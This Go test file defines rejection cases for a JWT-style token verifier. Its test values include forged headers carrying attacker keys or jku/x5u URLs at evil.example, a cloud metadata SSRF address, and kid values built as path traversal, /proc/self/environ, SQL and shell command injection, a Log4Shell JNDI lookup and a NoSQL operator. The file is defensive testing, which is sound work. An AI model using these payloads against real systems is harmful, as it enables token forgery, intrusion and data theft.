package verify_test

import (
	"crypto/ed25519"
	"fmt"
	"strings"

	"github.com/cardproof/cardproof/card/token"
	"github.com/cardproof/cardproof/verify"
)

// headers are rightly signed, under headers that are not exactly ours.
func (m *maker) headers() {
	more := func(member string) string { return m.replace(m.header, `,"typ"`, ","+member+`,"typ"`) }
	for name, tc := range map[string]struct{ description, header string }{
		"crit":           {"crit asks for an extension.", more(`"crit":["exp"]`)},
		"crit-empty":     {"An empty crit.", more(`"crit":[]`)},
		"crit-string":    {"crit is a string.", more(`"crit":"exp"`)},
		"crit-b64":       {"b64 false, announced by crit as RFC 7797 asks.", more(`"b64":false,"crit":["b64"]`)},
		"b64":            {"b64 false: the payload would be read otherwise (RFC 7797).", more(`"b64":false`)},
		"b64-true":       {"b64 true, which changes nothing.", more(`"b64":true`)},
		"zip":            {"zip asks for decompression.", more(`"zip":"DEF"`)},
		"enc":            {"enc, as encrypted tokens have.", more(`"enc":"A256GCM"`)},
		"cty":            {"cty says that a token lies within.", more(`"cty":"JWT"`)},
		"jku":            {"jku names a place for keys.", more(`"jku":"https://evil.example/keys"`)},
		"jku-inside":     {"jku names a place within the network.", more(`"jku":"http://169.254.169.254/latest"`)},
		"x5u":            {"x5u names a place for certificates.", more(`"x5u":"https://evil.example/c.pem"`)},
		"x5t":            {"x5t names a certificate.", more(`"x5t#S256":"AAAA"`)},
		"x5c":            {"x5c brings certificates along.", more(`"x5c":["AAAA"]`)},
		"jwk":            {"jwk brings a key along.", more(`"jwk":{"kty":"OKP"}`)},
		"jwk-null":       {"jwk is null.", more(`"jwk":null`)},
		"twice":          {"alg stands there twice.", m.replace(m.header, `{`, `{"alg":"EdDSA",`)},
		"twice-none":     {"alg stands there twice, and is none the first time.", m.replace(m.header, `{`, `{"alg":"none",`)},
		"twice-escaped":  {"alg stands there twice, once with an escape in its name.", more(`"\u0061lg":"none"`)},
		"kid-twice":      {"kid stands there twice.", more(`"kid":"` + m.key.ID + `"`)},
		"typ-twice":      {"typ stands there twice.", more(`"typ":"JWT"`)},
		"capitals":       {"A member's name in capitals.", m.replace(m.header, `"alg"`, `"ALG"`)},
		"capitals-both":  {"alg, and ALG beside it.", more(`"ALG":"none"`)},
		"order":          {"The members stand in another order.", `{"kid":"` + m.key.ID + `","alg":"EdDSA","typ":"card+jwt"}`},
		"space":          {"A space between the members.", m.replace(m.header, `,"kid"`, `, "kid"`)},
		"escape":         {"A letter written as an escape.", m.replace(m.header, "EdDSA", `\u0045dDSA`)},
		"mark":           {"A byte order mark before the header.", "\ufeff" + m.header},
		"line":           {"A line end behind the header.", m.header + "\n"},
		"no-kid":         {"kid is missing.", `{"alg":"EdDSA","typ":"card+jwt"}`},
		"not-utf8":       {"A byte that is not UTF-8.", m.replace(m.header, m.key.ID, m.key.ID[:10]+"\xff")},
		"surrogate":      {"Half of a surrogate pair in kid.", m.replace(m.header, m.key.ID, `\ud800`)},
		"no-json":        {"The header is not JSON.", "header"},
		"array":          {"The header is an array.", `["EdDSA"]`},
		"null":           {"The header is null.", "null"},
		"deep":           {"Objects nested 200 deep.", more(`"x":` + strings.Repeat(`{"a":`, 200) + "1" + strings.Repeat("}", 200))},
		"something-else": {"Something stands behind the header's object.", m.header + "{}"},
		"trailing-comma": {"A comma behind the last member.", m.header[:len(m.header)-1] + ",}"},
	} {
		m.bad("header-"+name, tc.description, m.forge(tc.header, m.claim), verify.Malformed)
	}
	m.ownKeys(more)
	m.keyIDs()
	m.types()
}

// ownKeys are signed by a forger's key, which the header brings along or says where to find.
func (m *maker) ownKeys(more func(member string) string) {
	x := text64.EncodeToString(stranger().Public().(ed25519.PublicKey))
	for name, tc := range map[string]struct{ description, member string }{
		"jwk":          {"in jwk", fmt.Sprintf(`"jwk":{"kty":"OKP","crv":"Ed25519","x":"%s"}`, x)},
		"jwk-same-kid": {"in jwk, under the kid of ours", fmt.Sprintf(`"jwk":{"kty":"OKP","crv":"Ed25519","kid":"%s","x":"%s"}`, m.key.ID, x)},
		"jku":          {"at jku", `"jku":"https://evil.example/.well-known/jwks.json"`},
		"x5u":          {"at x5u", `"x5u":"https://evil.example/c.pem"`},
		"x5c":          {"in x5c", fmt.Sprintf(`"x5c":["%s"]`, x)},
	} {
		m.bad("header-own-key-"+name, "Signed by a forger's key, which the header has "+tc.description+".", forgeWith(stranger(), more(tc.member), m.claim), verify.Malformed)
	}
	m.bad("header-own-kid", "Signed by a forger's key under that key's own kid.", forgeWith(stranger(), m.replace(m.header, m.key.ID, m.strange().ID), m.claim), verify.UnknownIssuer)
}

// keyIDs are rightly signed; the kid is not that of the key. Each is in the one spelling that JSON has for it here.
func (m *maker) keyIDs() {
	for name, tc := range map[string]struct{ description, kid string }{
		"traversal":       {"kid is a path to a file that is known to be empty.", "../../../../dev/null"},
		"absolute":        {"kid is the path of a file.", "/proc/self/environ"},
		"url":             {"kid is a URL.", "https://evil.example/key"},
		"sql":             {"kid would end a careless query.", "x' UNION SELECT 'AAAA' --"},
		"command":         {"kid would run a command in a careless shell.", "x; id #"},
		"template":        {"kid would be filled in by a careless logger.", "${jndi:ldap://evil.example/a}"},
		"newline":         {"A line feed in kid, for a careless log.", m.key.ID + `\n`},
		"carriage-return": {"A carriage return before the kid.", `\r` + m.key.ID},
		"nul":             {"NUL behind the kid.", m.key.ID + `\u0000`},
		"nul-and-more":    {"NUL and a path behind the kid.", m.key.ID + `\u0000/../x`},
		"other-case":      {"The kid in another case.", swapCase(m.key.ID)},
		"space":           {"A space behind the kid.", m.key.ID + " "},
		"padded":          {"Padding behind the kid.", m.key.ID + "="},
		"short":           {"The kid lacks its last character.", m.key.ID[:len(m.key.ID)-1]},
		"thumbprint":      {"More characters of base64url behind the kid.", m.key.ID + "AAAA"},
		"empty":           {"An empty kid.", ""},
		"long":            {"A kid of 1,000 characters.", strings.Repeat("A", 1000)},
		"prototype":       {"A kid that JavaScript's objects have without being given it.", "__proto__"},
	} {
		m.bad("kid-"+name, tc.description, m.forge(m.replace(m.header, m.key.ID, tc.kid), m.claim), verify.UnknownIssuer)
	}
	m.bad("kid-10-kb", "A kid of 10,240 characters: such a token is too long, whatever it says.", m.forge(m.replace(m.header, m.key.ID, strings.Repeat("A", 10<<10)), m.claim), verify.Malformed)
	for name, kid := range map[string]string{"number": "1", "null": "null", "list": `["` + m.key.ID + `"]`, "object": `{"$ne":""}`, "true": "true"} {
		m.bad("kid-"+name, "kid is no string.", m.forge(m.replace(m.header, `"`+m.key.ID+`"`, kid), m.claim), verify.Malformed)
	}
}

func swapCase(s string) string {
	return strings.Map(func(r rune) rune {
		if lower := strings.ToLower(string(r)); lower != string(r) {
			return []rune(lower)[0]
		}
		return []rune(strings.ToUpper(string(r)))[0]
	}, s)
}

// types are tokens of other kinds, rightly signed.
func (m *maker) types() {
	for name, tc := range map[string]struct{ description, header string }{
		"jwt":         {"A JWT of another kind.", m.replace(m.header, "card+jwt", "JWT")},
		"access":      {"An access token (RFC 9068).", m.replace(m.header, "card+jwt", "at+jwt")},
		"status-list": {"A status list.", m.replace(m.header, "card+jwt", "statuslist+jwt")},
		"capitals":    {"typ in capitals.", m.replace(m.header, "card+jwt", "CARD+JWT")},
		"application": {"typ as a whole media type, which RFC 7515 takes for the same.", m.replace(m.header, "card+jwt", "application/card+jwt")},
		"space":       {"A space behind typ.", m.replace(m.header, "card+jwt", "card+jwt ")},
		"empty":       {"An empty typ.", m.replace(m.header, "card+jwt", "")},
		"number":      {"typ is a number.", m.replace(m.header, `"card+jwt"`, "1")},
		"null":        {"typ is null.", m.replace(m.header, `"card+jwt"`, "null")},
		"missing":     {"A JWT without a typ.", `{"alg":"EdDSA"}`},
		"nothing":     {"A header without members.", `{}`},
	} {
		m.bad("typ-"+name, tc.description, m.forge(tc.header, m.claim), verify.WrongType)
	}
	none := signingInput(`{"alg":"none","typ":"JWT"}`, m.claim) + "."
	m.bad("typ-jwt-none", "A stranger's JWT with alg none.", none, verify.WrongType)
	unknown := m.forge(m.replace(m.replace(m.header, token.Type, "JWT"), m.key.ID, "AAAAAAAAAAA"), m.claim)
	m.bad("typ-jwt-unknown-key", "A stranger's JWT of a key that nobody knows: the kind comes first.", unknown, verify.WrongType)
}
